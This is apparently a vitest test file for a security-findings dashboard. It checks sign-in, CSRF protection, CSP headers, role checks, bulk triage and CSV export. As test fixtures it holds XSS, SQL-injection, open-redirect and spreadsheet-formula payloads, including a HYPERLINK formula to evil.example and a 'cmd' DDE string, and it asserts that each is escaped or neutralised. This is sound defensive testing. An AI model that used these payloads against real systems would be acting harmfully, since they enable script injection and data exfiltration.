import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CATEGORIES, type Finding, type ScanResult, SEVERITIES } from '../../scanners/core/types.js';
import { stackedBars, timeChart } from '../../server/dashboard/charts.js';
import { csvCell } from '../../server/dashboard/csv.js';
import { graphView } from '../../server/dashboard/graph.js';
import { escapeHtml } from '../../server/dashboard/html.js';
import { localPath } from '../../server/routes/dashboard/index.js';
import type { FindingQuery } from '../../server/storage/storage.js';
import {
  ADMIN_PASSWORD,
  ADMIN_TOKEN,
  bearer,
  cookieHeader,
  form,
  hiddenField,
  postScan,
  type Session,
  scanServerCorpus,
  signIn,
  startTestServer,
  type TestServer,
  uploadOf,
} from './helpers.js';

let server: TestServer;
let result: ScanResult;
let admin: Session;

const HOSTILE = {
  file: 'infra/<script>alert("file")</script>\u0007\u001b[31m.tf',
  message: `"><img src=x onerror=alert('message')> '; DROP TABLE findings; -- \u202Egnp.exe`,
  title: '<svg onload=alert(1)>',
  resource: "aws_s3_bucket.x' OR '1'='1",
  branch: 'feature/<b>bold</b>&"quoted"',
  repository: '<iframe src=//evil.example>',
  helpUri: 'javascript:alert(document.cookie)',
};

beforeAll(async () => {
  server = await startTestServer({ loginRateLimit: { max: 30, timeWindow: 60_000 } });
  result = await scanServerCorpus();
  await postScan(server.app, ADMIN_TOKEN, uploadOf(result));
  admin = await signIn(server.app, 'admin');
});
afterAll(async () => server.close());

describe('sign-in', () => {
  it('redirects pages to the sign-in form without a session, keeping where to return', async () => {
    for (const url of ['/', '/findings?severity=high', '/findings/1']) {
      const response = await server.app.inject({ url });
      expect(response.statusCode).toBe(303);
      expect(response.headers.location).toBe(`/login?next=${encodeURIComponent(url)}`);
    }
  });

  it('sets an HttpOnly, SameSite=Strict session cookie; Secure behind an https proxy', async () => {
    const page = await server.app.inject({ url: '/login' });
    const response = await server.app.inject({
      method: 'POST',
      url: '/login',
      headers: { cookie: cookieHeader(page), ...form({}).headers },
      payload: form({ username: 'admin', password: ADMIN_PASSWORD, csrf: hiddenField(page.body, 'csrf') })
        .payload,
    });
    expect(response.statusCode).toBe(303);
    expect(response.headers.location).toBe('/');
    const session = response.cookies.find((cookie) => cookie.name === 'palisade_session')!;
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
    expect(session.secure).toBeFalsy();

    const proxied = await startTestServer({ trustProxy: true });
    try {
      const proxiedPage = await proxied.app.inject({
        url: '/login',
        headers: { 'x-forwarded-proto': 'https' },
      });
      const proxiedLogin = await proxied.app.inject({
        method: 'POST',
        url: '/login',
        headers: { cookie: cookieHeader(proxiedPage), 'x-forwarded-proto': 'https', ...form({}).headers },
        payload: form({
          username: 'admin',
          password: ADMIN_PASSWORD,
          csrf: hiddenField(proxiedPage.body, 'csrf'),
        }).payload,
      });
      expect(proxiedLogin.cookies.find((cookie) => cookie.name === 'palisade_session')!.secure).toBe(true);
    } finally {
      await proxied.close();
    }
  });

  it('refuses a wrong password, an unknown user and a missing CSRF token, and audits failures', async () => {
    const page = await server.app.inject({ url: '/login' });
    const csrf = hiddenField(page.body, 'csrf');
    const attempt = (fields: Record<string, string>, cookie = cookieHeader(page)) =>
      server.app.inject({
        method: 'POST',
        url: '/login',
        headers: { cookie, ...form({}).headers },
        payload: form(fields).payload,
      });
    const wrong = await attempt({ username: 'admin', password: 'wrong password', csrf });
    expect(wrong.statusCode).toBe(401);
    expect(wrong.body).toContain('Wrong username or password.');
    expect(wrong.cookies.some((cookie) => cookie.name === 'palisade_session')).toBe(false);
    expect((await attempt({ username: 'nobody', password: 'whatever', csrf })).statusCode).toBe(401);
    expect((await attempt({ username: 'admin', password: ADMIN_PASSWORD, csrf: 'forged' })).statusCode).toBe(
      403,
    );
    expect((await attempt({ username: 'admin', password: ADMIN_PASSWORD, csrf }, '')).statusCode).toBe(403);
    const audit = await server.app.storage.listAudit(server.organizationId, 50);
    expect(audit.some((entry) => entry.action === 'login.failed' && entry.actor === 'user:admin')).toBe(true);
  });

  it('only returns to local paths after sign-in', () => {
    expect(localPath('/findings?severity=high')).toBe('/findings?severity=high');
    for (const hostile of [
      '//evil.example/',
      '/\\evil.example',
      'https://evil.example',
      'javascript:alert(1)',
      undefined,
    ]) {
      expect(localPath(hostile)).toBe('/');
    }
  });

  it('signs out with the CSRF token only, and the old cookie stops working', async () => {
    const session = await signIn(server.app, 'admin');
    const forged = await server.app.inject({
      method: 'POST',
      url: '/logout',
      headers: { cookie: session.cookie, ...form({}).headers },
      payload: form({ csrf: 'forged' }).payload,
    });
    expect(forged.statusCode).toBe(403);
    const out = await server.app.inject({
      method: 'POST',
      url: '/logout',
      headers: { cookie: session.cookie, ...form({}).headers },
      payload: form({ csrf: session.csrfToken }).payload,
    });
    expect(out.statusCode).toBe(303);
    expect((await server.app.inject({ url: '/', headers: { cookie: session.cookie } })).statusCode).toBe(303);
  });

  it('rate-limits sign-in attempts', async () => {
    const limited = await startTestServer({ loginRateLimit: { max: 3, timeWindow: 60_000 } });
    try {
      const statuses: number[] = [];
      for (let attempt = 0; attempt < 4; attempt++) {
        const response = await limited.app.inject({
          method: 'POST',
          url: '/login',
          ...form({ username: 'admin', password: 'guess', csrf: 'x' }),
        });
        statuses.push(response.statusCode);
      }
      expect(statuses).toEqual([403, 403, 403, 429]);
    } finally {
      await limited.close();
    }
  });
});

describe('pages', () => {
  it('serve a strict CSP, no inline scripts, and the one stylesheet', async () => {
    const page = await server.app.inject({ url: '/', headers: { cookie: admin.cookie } });
    expect(page.statusCode).toBe(200);
    expect(page.headers['content-type']).toContain('text/html');
    const csp = String(page.headers['content-security-policy']);
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("style-src 'self'");
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).toContain("frame-ancestors 'none'");
    expect(page.headers['x-content-type-options']).toBe('nosniff');
    expect(page.body).not.toMatch(/<script|style=|<style/i);
    const stylesheet = /<link rel="stylesheet" href="([^"]+)">/.exec(page.body)![1]!;
    const css = await server.app.inject({ url: stylesheet });
    expect(css.statusCode).toBe(200);
    expect(css.headers['content-type']).toContain('text/css');
  });

  it('the overview counts open findings by severity and lists the repositories', async () => {
    const page = await server.app.inject({ url: '/', headers: { cookie: admin.cookie } });
    const total = result.findings.length;
    expect(page.body).toContain(`Open findings: ${total}`);
    expect(page.body).toContain('acme/infra');
    const high = result.findings.filter((finding) => finding.severity === 'high').length;
    expect(page.body).toMatch(
      new RegExp(`<span class="count">${high}</span><span class="label">high</span>`),
    );
  });

  it('the findings page filters, pages and links to each finding', async () => {
    const high = result.findings.filter((finding) => finding.severity === 'high');
    const page = await server.app.inject({
      url: '/findings?severity=high&status=open&repository=',
      headers: { cookie: admin.cookie },
    });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain(`1–${high.length} of ${high.length}`);
    const links = [...page.body.matchAll(/href="\/findings\/(\d+)"/g)];
    expect(links).toHaveLength(high.length);
    const paged = await server.app.inject({ url: '/findings?limit=2', headers: { cookie: admin.cookie } });
    expect(paged.body).toContain(`1–2 of ${result.findings.length}`);
    expect(paged.body).toContain('offset=2');
    const invalid = await server.app.inject({
      url: '/findings?severity=severe',
      headers: { cookie: admin.cookie },
    });
    expect(invalid.statusCode).toBe(400);
    expect(invalid.headers['content-type']).toContain('text/html');
  });

  it('the finding page shows the history and lets an analyst triage through the form; a viewer gets no form', async () => {
    const analyst = await signIn(server.app, await server.user('analyst'));
    const list = await server.app.inject({ url: '/api/v1/findings?limit=1', headers: bearer(ADMIN_TOKEN) });
    const id = list.json().items[0].id;
    const page = await server.app.inject({ url: `/findings/${id}`, headers: { cookie: analyst.cookie } });
    expect(page.body).toContain('First seen');
    expect(page.body).toContain(`action="/findings/${id}/status"`);

    const forged = await server.app.inject({
      method: 'POST',
      url: `/findings/${id}/status`,
      headers: { cookie: analyst.cookie, ...form({}).headers },
      payload: form({ csrf: 'forged', status: 'false_positive', reason: 'test data' }).payload,
    });
    expect(forged.statusCode).toBe(403);
    const submitted = await server.app.inject({
      method: 'POST',
      url: `/findings/${id}/status`,
      headers: { cookie: analyst.cookie, ...form({}).headers },
      payload: form({
        csrf: analyst.csrfToken,
        status: 'false_positive',
        reason: 'fixture file',
        expiresOn: '',
      }).payload,
    });
    expect(submitted.statusCode).toBe(303);
    const after = await server.app.inject({ url: `/findings/${id}`, headers: { cookie: analyst.cookie } });
    expect(after.body).toContain('fixture file');
    expect(after.body).toContain('false positive');
    expect(after.body).toMatch(/user:analyst-\d+/);

    const viewer = await signIn(server.app, await server.user('viewer'));
    const viewerPage = await server.app.inject({
      url: `/findings/${id}`,
      headers: { cookie: viewer.cookie },
    });
    expect(viewerPage.body).not.toContain('/status"');
    const viewerPost = await server.app.inject({
      method: 'POST',
      url: `/findings/${id}/status`,
      headers: { cookie: viewer.cookie, ...form({}).headers },
      payload: form({ csrf: viewer.csrfToken, status: 'open', reason: 'no' }).payload,
    });
    expect(viewerPost.statusCode).toBe(403);
  });
});

describe('storage reads behind the pages', () => {
  const list = (query: Partial<FindingQuery> = {}): FindingQuery => ({
    sort: 'severity',
    order: 'desc',
    limit: 1000,
    offset: 0,
    ...query,
  });

  it('counts findings in one grouped query, as the list counts them', async () => {
    const { storage } = server.app;
    const organizationId = server.organizationId;
    const open = await storage.countFindings(organizationId, { status: ['open'] }, ['category', 'severity']);
    expect(open.length).toBeGreaterThan(1);
    expect(open.every((group) => group.count > 0)).toBe(true);
    for (const category of CATEGORIES) {
      for (const severity of SEVERITIES) {
        const listed = await storage.listFindings(
          organizationId,
          list({ category, severity: [severity], status: ['open'], limit: 1 }),
        );
        const group = open.find((entry) => entry.category === category && entry.severity === severity);
        expect(group?.count ?? 0, `${category} ${severity}`).toBe(listed.total);
      }
    }

    const byStatus = await storage.countFindings(organizationId, {}, ['status']);
    const summary = await storage.summarize(organizationId);
    for (const group of byStatus) expect(group.count).toBe(summary.byStatus[group.status]);
    const [all] = await storage.countFindings(organizationId, {}, []);
    expect(all).toEqual({ count: (await storage.listFindings(organizationId, list({ limit: 1 }))).total });

    // With no column, the one group is there even when nothing matches; with columns, no group is.
    expect(await storage.countFindings(organizationId, { deployed: true }, [])).toEqual([{ count: 0 }]);
    expect(await storage.countFindings(organizationId, { ruleId: 'PAL-NONE' }, ['severity'])).toEqual([]);
    const other = await server.organization('count-other');
    expect(await storage.countFindings(other, {}, ['severity'])).toEqual([]);
  });

  it('lists a page of findings without its total, as listFindings does', async () => {
    const { storage } = server.app;
    const organizationId = server.organizationId;
    for (const query of [
      list(),
      list({ sort: 'file', order: 'asc', limit: 3, offset: 2 }),
      list({ severity: ['high'], status: ['open'], sort: 'rule' }),
      list({ offset: 100_000 }),
    ]) {
      const page = await storage.listFindings(organizationId, query);
      expect(await storage.listFindingItems(organizationId, query)).toEqual(page.items);
    }
  });

  it('reads one repository of the organisation, as the list shows it', async () => {
    const { storage } = server.app;
    const organizationId = server.organizationId;
    const repositories = await storage.listRepositories(organizationId);
    expect(repositories.length).toBeGreaterThan(0);
    for (const repository of repositories) {
      expect(await storage.getRepository(organizationId, repository.id)).toEqual(repository);
    }
    const other = await server.organization('repository-other');
    expect(await storage.getRepository(other, repositories[0]!.id)).toBeUndefined();
    expect(await storage.getRepository(organizationId, 1_000_000)).toBeUndefined();
  });
});

describe('hostile strings', () => {
  let hostileId: number;

  beforeAll(async () => {
    const base = result.findings[0]!;
    const hostile: Finding = {
      ...base,
      fingerprint: 'hostile-1',
      title: HOSTILE.title,
      message: HOSTILE.message,
      resource: HOSTILE.resource,
      helpUri: HOSTILE.helpUri,
      location: { ...base.location, file: HOSTILE.file },
    };
    const response = await postScan(
      server.app,
      ADMIN_TOKEN,
      uploadOf(
        { ...result, findings: [hostile] },
        { repository: HOSTILE.repository, branch: HOSTILE.branch },
      ),
    );
    expect(response.statusCode, response.body).toBe(201);
    const list = await server.app.inject({
      url: `/api/v1/findings?rule=${base.ruleId}&limit=500`,
      headers: bearer(ADMIN_TOKEN),
    });
    hostileId = list
      .json()
      .items.find((item: { fingerprint: string }) => item.fingerprint === 'hostile-1').id;
  });

  it('are stored and returned byte for byte', async () => {
    const response = await server.app.inject({
      url: `/api/v1/findings/${hostileId}`,
      headers: bearer(ADMIN_TOKEN),
    });
    expect(response.json().finding).toMatchObject({
      title: HOSTILE.title,
      message: HOSTILE.message,
      resource: HOSTILE.resource,
      helpUri: HOSTILE.helpUri,
      branch: HOSTILE.branch,
      location: { file: HOSTILE.file },
      repository: { name: HOSTILE.repository },
    });
  });

  it('are rendered inert on every page: escaped, control characters visible, no javascript: link', async () => {
    const pages = await Promise.all(
      [
        '/',
        '/findings',
        `/findings/${hostileId}`,
        `/findings?branch=${encodeURIComponent(HOSTILE.branch)}`,
      ].map((url) => server.app.inject({ url, headers: { cookie: admin.cookie } })),
    );
    for (const page of pages) {
      expect(page.statusCode).toBe(200);
      for (const tag of ['<script', '<img', '<svg onload', '<iframe', '<b>'])
        expect(page.body).not.toContain(tag);
      // The only SVG is the dashboard's own charts.
      for (const svg of page.body.match(/<svg[^>]*>/g) ?? []) expect(svg).toMatch(/^<svg class="[a-z-]+"/);
      expect(page.body).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u202e]/);
      expect(page.body).not.toContain('javascript:');
    }
    const [overview, list, detail] = pages;
    expect(overview!.body).toContain(escapeHtml(HOSTILE.repository));
    expect(list!.body).toContain(escapeHtml(HOSTILE.title));
    expect(detail!.body).toContain('&lt;script&gt;alert(&quot;file&quot;)&lt;/script&gt;\u2407\u241b[31m.tf');
    expect(detail!.body).toContain('&quot;&gt;&lt;img src=x onerror=alert(&#39;message&#39;)&gt;');
    expect(detail!.body).toContain('[U+202E]gnp.exe');
    expect(detail!.body).toContain(escapeHtml(HOSTILE.resource));
    expect(detail!.body).not.toContain('Rule documentation');
  });
});

/** Every tag a hostile string could smuggle in, and markup that would run or reorder text. */
function expectInert(markup: string) {
  for (const tag of ['<script', '<img', '<svg onload', '<iframe', '<b>', '<foreignObject'])
    expect(markup).not.toContain(tag);
  // Attribute values cannot be left (quotes are escaped): with them blanked, no tag may carry an event handler.
  expect(markup.replace(/"[^"]*"/g, '""')).not.toMatch(/<[a-z][^<>]*\son[a-z]+=/i);
  expect(markup).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u202e]/);
  // Text may read "javascript:", a link never.
  expect(markup).not.toMatch(/(href|src|action|xlink:href)="\s*javascript:/i);
}

describe('hostile strings in charts, graphs, cloud pages and CSV', () => {
  it('chart and graph labels are escaped inside the SVG, its title and the fallback table or list', () => {
    const chart = stackedBars({
      title: HOSTILE.title,
      keys: ['high'],
      className: () => 'severity-high',
      rows: [{ label: HOSTILE.repository, counts: { high: 3 } }],
    }).markup;
    const line = timeChart({
      title: HOSTILE.message,
      series: [
        { name: HOSTILE.branch, className: 'series-open', points: [{ date: '2026-01-01', value: 2 }] },
      ],
    }).markup;
    const graph = graphView({
      id: '"><script>',
      title: HOSTILE.title,
      nodes: [
        {
          id: HOSTILE.resource,
          label: HOSTILE.file,
          kind: 'code',
          detail: HOSTILE.message,
          href: '/repositories/1',
        },
        { id: 'cloud:1', label: HOSTILE.repository, kind: 'resource' },
      ],
      edges: [{ from: HOSTILE.resource, to: 'cloud:1', label: HOSTILE.branch, detail: HOSTILE.title }],
    }).markup;
    for (const markup of [chart, line, graph]) expectInert(markup);
    expect(chart).toContain(`<title>${escapeHtml(HOSTILE.repository)}</title>`);
    expect(chart).toContain(`<th scope="row">${escapeHtml(HOSTILE.repository)}</th>`);
    expect(line).toContain(escapeHtml(HOSTILE.branch));
    // Long labels are cut in the picture, and whole in the tooltip and in the list.
    expect(graph).toContain(`<title>${escapeHtml(HOSTILE.file)} (${escapeHtml(HOSTILE.message)})</title>`);
    expect(graph).toContain(escapeHtml(HOSTILE.title));
    expect(graph).toContain('marker id="arrow----script-"');
    expect(graph).toMatch(/<ul class="graph-list"[^>]*>[\s\S]*&lt;iframe/);
  });

  it('cloud account and resource pages render hostile names, ids, tags and check texts inert', async () => {
    const uid = `arn:aws:s3:::${HOSTILE.title}`;
    const imported = await server.app.inject({
      method: 'POST',
      url: '/api/v1/cloud/imports',
      headers: bearer(ADMIN_TOKEN),
      payload: {
        source: 'prowler-ocsf',
        provider: 'aws',
        accountId: '<b>999</b>',
        observedAt: null,
        resources: [
          {
            uid,
            provider: 'aws',
            accountId: '<b>999</b>',
            region: HOSTILE.branch,
            type: '<iframe src=//evil.example>',
            name: HOSTILE.file,
            tags: { [HOSTILE.title]: HOSTILE.message, team: 'javascript:alert(1)' },
            related: [],
          },
        ],
        checks: [
          {
            resourceUid: uid,
            checkId: HOSTILE.title,
            title: HOSTILE.message,
            severity: 'high',
            status: 'fail',
            message: HOSTILE.file,
            categories: [HOSTILE.branch],
          },
        ],
      },
    });
    expect(imported.statusCode, imported.body).toBe(201);
    const accountId = imported.json().account.id;
    const resource = await server.app.inject({
      url: `/api/v1/cloud/accounts/${accountId}`,
      headers: bearer(ADMIN_TOKEN),
    });
    const resourceId = resource.json().resources.items[0].id;
    for (const url of [`/cloud/accounts/${accountId}`, `/cloud/resources/${resourceId}`, '/', '/graph']) {
      const page = await server.app.inject({ url, headers: { cookie: admin.cookie } });
      expect(page.statusCode, url).toBe(200);
      expectInert(page.body);
    }
    const detail = await server.app.inject({
      url: `/cloud/resources/${resourceId}`,
      headers: { cookie: admin.cookie },
    });
    expect(detail.body).toContain('&lt;script&gt;alert(&quot;file&quot;)&lt;/script&gt;\u2407\u241b[31m.tf');
    expect(detail.body).toContain(escapeHtml(HOSTILE.title));
    expect(detail.body).toContain('[U+202E]gnp.exe');
  });

  it('the repository page draws the hostile repository name inert', async () => {
    const repositories = await server.app.inject({
      url: '/api/v1/repositories',
      headers: bearer(ADMIN_TOKEN),
    });
    const hostile = repositories
      .json()
      .items.find((repository: { name: string }) => repository.name === HOSTILE.repository);
    const page = await server.app.inject({
      url: `/repositories/${hostile.id}`,
      headers: { cookie: admin.cookie },
    });
    expect(page.statusCode).toBe(200);
    expectInert(page.body);
    expect(page.body).toContain(`<svg class="chart-svg"`);
    expect(page.body).toContain(escapeHtml(HOSTILE.repository));
  });

  it('CSV cells are quoted, and cells that a spreadsheet would run as formulas are neutralised', async () => {
    expect(csvCell('=HYPERLINK("http://evil.example")')).toBe('"\'=HYPERLINK(""http://evil.example"")"');
    expect(csvCell('+1')).toBe('"\'+1"');
    expect(csvCell('-2+3')).toBe('"\'-2+3"');
    expect(csvCell('@SUM(A1)')).toBe('"\'@SUM(A1)"');
    expect(csvCell('\tcmd')).toBe('"\'\tcmd"');
    expect(csvCell('plain, "quoted"\nline')).toBe('"plain, ""quoted""\nline"');
    expect(csvCell(-5)).toBe('"-5"');
    expect(csvCell(null)).toBe('""');

    const base = result.findings[0]!;
    const formulas: Finding = {
      ...base,
      fingerprint: 'formula-1',
      title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      message: '@SUM(1+1)*cmd|" /C calc"!A0',
      resource: '-2+3',
      location: { ...base.location, file: '+infra/evil.tf' },
    };
    const uploaded = await postScan(
      server.app,
      ADMIN_TOKEN,
      uploadOf({ ...result, findings: [formulas] }, { repository: 'formulas', runId: 'formulas' }),
    );
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const response = await server.app.inject({
      url: '/findings.csv?branch=main&sort=file',
      headers: { cookie: admin.cookie },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="palisade-findings-/);
    const lines = response.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toBe(
      '"id","severity","priority","status","rule","title","category","repository","branch","file","line","resource","owner","first_seen","last_seen","status_reason","status_expires","message"',
    );
    const row = lines.find((line) => line.includes('evil.tf'))!;
    expect(row).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(row).toContain('"\'+infra/evil.tf"');
    expect(row).toContain('"\'-2+3"');
    expect(row).toContain('"\'@SUM(1+1)*cmd|"" /C calc""!A0"');
    // No cell starts with a bare formula character.
    for (const line of lines) expect(line).not.toMatch(/(^|,)"[=+\-@]/);
    // The filter applies: every finding of branch main, and nothing else.
    const api = await server.app.inject({
      url: '/api/v1/findings?branch=main&limit=1',
      headers: bearer(ADMIN_TOKEN),
    });
    expect(lines).toHaveLength(api.json().total + 1);
    const audit = await server.app.storage.listAudit(server.organizationId, 20);
    expect(audit.some((entry) => entry.action === 'findings.export')).toBe(true);
  });
});

describe('bulk actions', () => {
  const bulkForm = (fields: Record<string, string>, ids: number[]) => {
    const body = new URLSearchParams(fields);
    for (const id of ids) body.append('ids', String(id));
    return body.toString();
  };
  const openIds = async (count: number) => {
    const list = await server.app.inject({
      url: `/api/v1/findings?status=open&repository=${await repositoryId('infra')}&limit=${count}`,
      headers: bearer(ADMIN_TOKEN),
    });
    return list.json().items.map((item: { id: number }) => item.id) as number[];
  };
  const repositoryId = async (name: string) => {
    const repositories = await server.app.inject({
      url: '/api/v1/repositories',
      headers: bearer(ADMIN_TOKEN),
    });
    return repositories.json().items.find((repository: { name: string }) => repository.name === name).id;
  };

  it('an analyst marks ticked findings as false positives and assigns owners; the list keeps its filter', async () => {
    const analyst = await signIn(server.app, await server.user('analyst'));
    const ids = await openIds(3);
    expect(ids).toHaveLength(3);
    const listUrl = `/findings?status=open&repository=${await repositoryId('infra')}`;
    const page = await server.app.inject({ url: listUrl, headers: { cookie: analyst.cookie } });
    expect(page.body).toContain('action="/findings/bulk"');
    expect(page.body).toContain(`name="ids" value="${ids[0]}"`);
    const response = await server.app.inject({
      method: 'POST',
      url: '/findings/bulk',
      headers: { cookie: analyst.cookie, 'content-type': 'application/x-www-form-urlencoded' },
      payload: bulkForm(
        {
          csrf: analyst.csrfToken,
          return: listUrl,
          action: 'false_positive',
          reason: 'test fixtures',
          expiresOn: '',
        },
        ids,
      ),
    });
    expect(response.statusCode).toBe(303);
    const location = new URL(response.headers.location as string, 'http://dashboard.test');
    expect(location.pathname).toBe('/findings');
    expect(Object.fromEntries(location.searchParams)).toMatchObject({
      status: 'open',
      bulk: 'false_positive',
      changed: '3',
      skipped: '0',
    });
    const after = await server.app.inject({
      url: response.headers.location as string,
      headers: { cookie: analyst.cookie },
    });
    expect(after.body).toContain('Marked as false positive 3 findings.');
    for (const id of ids) {
      const finding = await server.app.inject({
        url: `/api/v1/findings/${id}`,
        headers: bearer(ADMIN_TOKEN),
      });
      expect(finding.json().finding).toMatchObject({
        status: 'false_positive',
        statusReason: 'test fixtures',
      });
    }

    const owner = await server.app.inject({
      method: 'POST',
      url: '/findings/bulk',
      headers: { cookie: analyst.cookie, 'content-type': 'application/x-www-form-urlencoded' },
      // A return address elsewhere is ignored: the redirect stays on the findings list.
      payload: bulkForm(
        {
          csrf: analyst.csrfToken,
          return: '//evil.example/findings?x=1',
          action: 'owner',
          owner: 'team-<b>red</b>',
        },
        [ids[0]!, 999_999],
      ),
    });
    expect(owner.statusCode).toBe(303);
    expect(owner.headers.location).toBe('/findings?bulk=owner&changed=1&skipped=1');
    const assigned = await server.app.inject({
      url: `/api/v1/findings/${ids[0]}`,
      headers: bearer(ADMIN_TOKEN),
    });
    expect(assigned.json().finding).toMatchObject({ owner: 'team-<b>red</b>', ownerSource: 'assigned' });
  });

  it('refuses a forged CSRF token, a viewer, no selection and a decision without a reason', async () => {
    const analyst = await signIn(server.app, await server.user('analyst'));
    const viewer = await signIn(server.app, await server.user('viewer'));
    const ids = await openIds(1);
    const post = (session: Session, fields: Record<string, string>, selected: number[]) =>
      server.app.inject({
        method: 'POST',
        url: '/findings/bulk',
        headers: { cookie: session.cookie, 'content-type': 'application/x-www-form-urlencoded' },
        payload: bulkForm(fields, selected),
      });
    expect(
      (await post(analyst, { csrf: 'forged', action: 'risk_accepted', reason: 'x' }, ids)).statusCode,
    ).toBe(403);
    expect(
      (await post(viewer, { csrf: viewer.csrfToken, action: 'risk_accepted', reason: 'x' }, ids)).statusCode,
    ).toBe(403);
    const viewerPage = await server.app.inject({ url: '/findings', headers: { cookie: viewer.cookie } });
    expect(viewerPage.body).not.toContain('/findings/bulk');
    expect(
      (await post(analyst, { csrf: analyst.csrfToken, action: 'risk_accepted', reason: 'x' }, [])).statusCode,
    ).toBe(400);
    const noReason = await post(
      analyst,
      { csrf: analyst.csrfToken, action: 'risk_accepted', reason: ' ' },
      ids,
    );
    expect(noReason.statusCode).toBe(400);
    expect(noReason.body).toContain('Give a reason for the decision.');
    const finding = await server.app.inject({
      url: `/api/v1/findings/${ids[0]}`,
      headers: bearer(ADMIN_TOKEN),
    });
    expect(finding.json().finding.status).toBe('open');
  });
});
